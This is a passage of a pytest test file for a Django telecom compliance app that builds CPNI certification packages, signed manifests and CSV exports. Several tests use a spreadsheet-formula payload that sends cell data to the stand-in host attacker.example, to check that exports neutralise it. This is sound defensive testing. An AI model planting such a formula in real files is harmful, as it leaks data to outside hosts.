    assert "Petition against DataFinders LLC in the Superior Court" in text
    assert "Caller posing as the account holder asked for call records" in text
    assert "Call-back to the telephone number of record" in text
    assert "TOLL-BILLING — Toll billing records: kept 18 months from the record's creation date; legal minimum 18 months (47 CFR 42.6)." in text
    assert "Appendix: CPNI Track figures for 2026" in text and "Records destroyed 2" in text
    assert all(top == "CONFIDENTIAL" and "CONFIDENTIAL" in bottom for top, bottom in margins_of(data))
    assert certification_pdf(YEAR) == data  # reproducible from the stored data


def test_a_filed_year_with_nothing_to_report_says_so_in_the_filings_words(records_manager, officer, olivia, time_machine):
    make_company_profile(
        companies=[("Example Telecom, Inc.", "", "Company does not provide interstate telecommunications service")],
        signatory=olivia
    )
    time_machine.move_to(datetime(2027, 2, 20, 15, tzinfo=NEW_YORK))
    package = CertificationPackage.objects.create(
        year=YEAR, requested_by=records_manager, requested_at=timezone.now(), state=CertificationPackage.State.READY
    )
    CertificationFiling.objects.create(
        year=YEAR, package=package, signed_by=officer, signed_on=date(2027, 2, 20), filed_on=date(2027, 2, 20),
        recorded_at=timezone.now(),
    )

    data = certification_pdf(YEAR)
    text = " ".join(pages_of(data))

    assert "Date filed: February 20, 2027" in text
    assert "Form 499 Filer ID: N/A (Company does not provide interstate telecommunications service)" in text
    assert NO_BROKER_ACTIONS in text
    assert NO_COMPLAINTS in text
    assert NO_PRETEXTING in text
    assert "No retention schedule is active." in text
    time_machine.move_to(datetime(2027, 6, 1, tzinfo=NEW_YORK))
    assert certification_pdf(YEAR) == data
    pdf = pypdfium2.PdfDocument(data)
    try:
        assert pdf.get_metadata_dict()["CreationDate"].startswith("D:20270220")
    finally:
        pdf.close()


@pytest.mark.parametrize("path", ["as configured", "generic"])
def test_every_destruction_of_the_year_is_in_its_register_and_counted_once(
    path, profile, schedule, employee, netops, records_manager, time_machine, tmp_path, monkeypatch
):
    """A destruction belongs to the year it happened in (destroyed_on), whenever it was recorded:
    paper shredded on 2026-12-31 and confirmed on 2027-01-02 is in 2026's register and count, not 2027's."""
    if path == "generic":  # on PostgreSQL, the register is otherwise written by COPY
        monkeypatch.setattr(register_export, "through_copy", lambda: False)
    time_machine.move_to(datetime(2026, 12, 20, 10, tzinfo=NEW_YORK))
    make_record(custodian=employee, status=Status.DESTROYED, schedule=schedule)
    late = make_record(custodian=employee, status=Status.PENDING_SHRED, schedule=schedule)
    disk = make_record(custodian=employee, status=Status.IN_NETOPS_CUSTODY, medium=Medium.HARD_DISK, netops=netops,
                       schedule=schedule)
    time_machine.move_to(datetime(2027, 1, 2, 9, tzinfo=NEW_YORK))
    recorded_late = shredding_confirm(actor=employee, record=late, destroyed_on=date(2026, 12, 31),
                                      method="cross_cut_shredder")
    media_destruction_confirm(actor=netops, records=[disk], destroyed_on=date(2027, 1, 2), **SANITIZED)
    assert recorded_late.certificate_number == "CD-2027-000001", "numbered in the year it was recorded"

    for year in (2026, 2027):
        folder = unpack(build(records_manager, year=year), tmp_path / str(year))
        register = csv_rows(folder / "destruction-register.csv")
        summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
        of_the_year = Destruction.objects.filter(destroyed_on__gte=date(year, 1, 1), destroyed_on__lt=date(year + 1, 1, 1))
        assert {row["certificate_number"] for row in register} == set(of_the_year.values_list("certificate_number", flat=True))
        assert len(register) == summary["records_destroyed"] == year_summary(year).records_destroyed == of_the_year.count()
    assert [row["destroyed_on"] for row in csv_rows(tmp_path / "2026" / "destruction-register.csv")] == [
        "2026-12-20", "2026-12-31"]
    assert Destruction.objects.count() == 3


# --------------------------------------------------------------------------- the command

def test_the_export_command_builds_the_package_and_copies_it(year_data, records_manager, tmp_path):
    output = tmp_path / "out.zip"
    stdout = io.StringIO()

    call_command("export_certification", "--year", "2026", "--as", "rita", "--output", str(output), "--no-progress", stdout=stdout)

    package = CertificationPackage.objects.get()
    assert package.requested_by == records_manager and package.state == CertificationPackage.State.READY
    assert hashlib.sha256(output.read_bytes()).hexdigest() == package.sha256
    assert package.sha256 in stdout.getvalue()
    assert package.draft and f"#{package.pk} DRAFT (the year has not ended" in stdout.getvalue(), "2026 has not ended on 2026-11-23"
    assert "-DRAFT-" in packaging.package_path(package).name
    with zipfile.ZipFile(output) as archive:
        archive.extractall(tmp_path / "unzipped")
    assert verify(tmp_path / "unzipped")[0] == 0


def test_the_export_command_copies_into_a_folder_with_a_progress_bar(year_data, officer, tmp_path, capsys):
    folder = tmp_path / "exports"
    folder.mkdir()
    call_command("export_certification", "--year", "2026", "--as", "oscar", "--output", str(folder))
    package = CertificationPackage.objects.get()
    assert (folder / package.file_name).is_file()
    assert "100%" in capsys.readouterr().err


@pytest.mark.parametrize("username", ["ann", "emma", "nobody"])
def test_the_export_command_refuses_anyone_but_records_managers_and_officers(profile, auditor, employee, username):
    with pytest.raises(CommandError, match="may not prepare the certification|no user"):
        call_command("export_certification", "--year", "2026", "--as", username, "--no-progress")
    assert not CertificationPackage.objects.exists()


def test_the_export_command_refuses_a_filed_year(frozen_today, profile, records_manager, officer):
    package = CertificationPackage.objects.create(
        year=2025, requested_by=records_manager, requested_at=timezone.now(), state=CertificationPackage.State.READY
    )
    CertificationFiling.objects.create(
        year=2025, package=package, signed_by=officer, signed_on=date(2026, 2, 20), filed_on=date(2026, 2, 21),
        recorded_at=timezone.now(),
    )
    with pytest.raises(CommandError, match="2025 certification was filed on 2026-02-21"):
        call_command("export_certification", "--year", "2025", "--as", "rita", "--no-progress")
    assert CertificationPackage.objects.count() == 1


# --------------------------------------------------------------------------- drafts

def test_a_package_of_the_unfinished_year_is_a_draft_on_every_page(client, year_data, records_manager, olivia, time_machine):
    from compliance import filing, tasks

    approve_every_section(records_manager, olivia)  # the final package, once the year has ended

    client.force_login(records_manager)
    assert client.post(reverse("package-request"), {"year": str(YEAR)}).status_code == 302
    draft = CertificationPackage.objects.get()
    assert draft.draft
    tasks.build_certification_package(draft.pk)
    draft.refresh_from_db()
    with zipfile.ZipFile(packaging.package_path(draft)) as archive:
        pdf = archive.read("certification.pdf")
        assert json.loads(archive.read("summary.json"))["draft"] is True
    pages = pages_of(pdf)
    assert len(pages) >= 2 and all("DRAFT — year not ended" in page for page in pages)
    assert "Records due for destruction at year end (projection: the year has not ended)" in " ".join(pages)
    assert "DRAFT" in client.get(reverse("package-detail", args=[draft.pk])).content.decode()

    time_machine.move_to(datetime(2027, 2, 20, 12, tzinfo=NEW_YORK))  # the year has ended: the draft stays a draft
    client.force_login(olivia)
    page = client.get(reverse("package-detail", args=[draft.pk])).content.decode()
    assert "It cannot be filed" in page and "Sign the 2026 certification" not in page
    with pytest.raises(ValidationError) as refused:
        filing.certification_sign(actor=olivia, package=draft, signed_on=date(2027, 2, 19),
                                  password=TEST_PASSWORD, personal_knowledge=True)
    assert "is a draft, built before 2026 ended" in str(refused.value)
    assert not CertificationFiling.objects.exists()

    client.force_login(records_manager)
    assert client.post(reverse("package-request"), {"year": str(YEAR)}).status_code == 302
    final = CertificationPackage.objects.latest("pk")
    tasks.build_certification_package(final.pk)
    with zipfile.ZipFile(packaging.package_path(CertificationPackage.objects.get(pk=final.pk))) as archive:
        pages = pages_of(archive.read("certification.pdf"))
    assert not final.draft and not any("DRAFT" in page for page in pages)
    assert "Records due for destruction at year end " in " ".join(pages)


# --------------------------------------------------------------------------- formulas in the CSVs

FORMULA_CELL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_a_failed_sign_in_named_like_a_formula_is_exported_neutralised(client, frozen_today, profile, records_manager, tmp_path):
    client.post(reverse("login"), {"username": FORMULA_CELL, "password": "wrong password"})
    assert AuditEvent.objects.get(action="auth.sign_in_failed").object_repr == FORMULA_CELL
    folder = unpack(build(records_manager), tmp_path / "package")
    [row] = [row for row in csv_rows(folder / "audit-events.csv") if row["action"] == "auth.sign_in_failed"]
    assert row["object_repr"] == "'" + FORMULA_CELL
    code, output = verify(folder)  # the JSON Lines, which the chain is checked on, keep it exactly
    assert code == 0, output


def test_the_destruction_register_neutralises_its_cells(year_data, records_manager, tmp_path):
    Record.objects.filter(pk=year_data.shredded.pk).update(title=FORMULA_CELL)
    folder = unpack(build(records_manager), tmp_path / "package")
    titles = {row["title"] for row in csv_rows(folder / "destruction-register.csv")}
    assert "'" + FORMULA_CELL in titles and FORMULA_CELL not in titles


@pytest.mark.postgres
def test_postgresqls_copy_neutralises_as_the_generic_path_does(year_data, records_manager, monkeypatch):
    Record.objects.filter(pk=year_data.shredded.pk).update(title=FORMULA_CELL)
    audit_event_record(actor=None, action="auth.sign_in_failed", object_type="username", object_repr=FORMULA_CELL)
    audit_event_record(actor=None, action="auth.sign_in_failed", object_type="username", object_repr="'@quoted")
    snapshot = packaging.audit_snapshot(YEAR)
    copied, generic = (_Collected(), _Collected(), _Collected()), (_Collected(), _Collected(), _Collected())
    with CaptureQueriesContext(connection):
        event_export.write_events(copied[0], copied[1], YEAR, snapshot, lambda share: None)
        register_export.write_destructions(copied[2], YEAR)
    monkeypatch.setattr(event_export, "through_copy", lambda: False)
    monkeypatch.setattr(register_export, "through_copy", lambda: False)
    event_export.write_events(generic[0], generic[1], YEAR, snapshot, lambda share: None)
    register_export.write_destructions(generic[2], YEAR)
    for through_copy, through_python in zip(copied, generic):
        assert through_copy.data() == through_python.data()
    assert b"'''@quoted" not in copied[0].data() and b",''@quoted," in copied[0].data()
    assert b'"\'=HYPERLINK(' in copied[0].data() and b'"\'=HYPERLINK(' in copied[2].data()


# --------------------------------------------------------------------------- the signed manifest

def test_the_verifiers_ed25519_agrees_with_the_cryptography_package():
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    from compliance import package_verifier

    for message in (b"", b"manifest", bytes(range(256)) * 4):
        key = Ed25519PrivateKey.generate()
        raw = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
        signature = key.sign(message)
        assert package_verifier.ed25519_verify(raw, message, signature)
        assert not package_verifier.ed25519_verify(raw, message + b"!", signature)
        assert not package_verifier.ed25519_verify(raw, message, signature[:-1] + bytes([signature[-1] ^ 1]))


def test_the_manifest_is_signed_with_the_key_the_certification_prints(built):
    from records import signing

    folder = built.folder
    fingerprint = signing.fingerprint()
    assert json.loads((folder / "manifest.json").read_text(encoding="utf-8"))["signing_key_fingerprint"] == fingerprint
    for pdf in ("certification.pdf", "public-filing.pdf"):
        assert f"fingerprint {fingerprint}" in " ".join(pages_of((folder / pdf).read_bytes())), pdf
    code, output = verify(folder)
    assert code == 0 and f"the manifest is signed by key {fingerprint}" in output, output
    result = subprocess.run([sys.executable, "-I", "-S", "verify_package.py", "--key", fingerprint], cwd=folder,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stdout


def test_a_manifest_rewritten_to_fit_a_changed_file_or_signed_with_another_key_fails(built):
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from records import signing

    folder = built.folder
    with open(folder / "complaints.csv", "a", encoding="utf-8") as complaints:
        complaints.write("99,2026-12-01,employee_access,,invented,,,rita\r\n")
    rewrite_manifest_entry(folder, "complaints.csv")
    code, output = verify(folder)
    assert code == 1 and "manifest.json was changed after it was signed" in output, output

    forger = Ed25519PrivateKey.generate()
    block = {"signed": "manifest.json", "algorithm": "Ed25519",
             "signature": base64.b64encode(forger.sign((folder / "manifest.json").read_bytes())).decode(),
             "public_key": signing.public_key_pem(forger.public_key())}
    (folder / "manifest.sig").write_text(json.dumps(block), encoding="utf-8")
    assert verify(folder)[0] == 0, "consistent on its own: only the key printed in the certification tells"
    result = subprocess.run([sys.executable, "-I", "-S", "verify_package.py", "--key", signing.fingerprint()],
                            cwd=folder, capture_output=True, text=True, timeout=60)
    assert result.returncode == 1 and f"not by the key {signing.fingerprint()}" in result.stdout, result.stdout
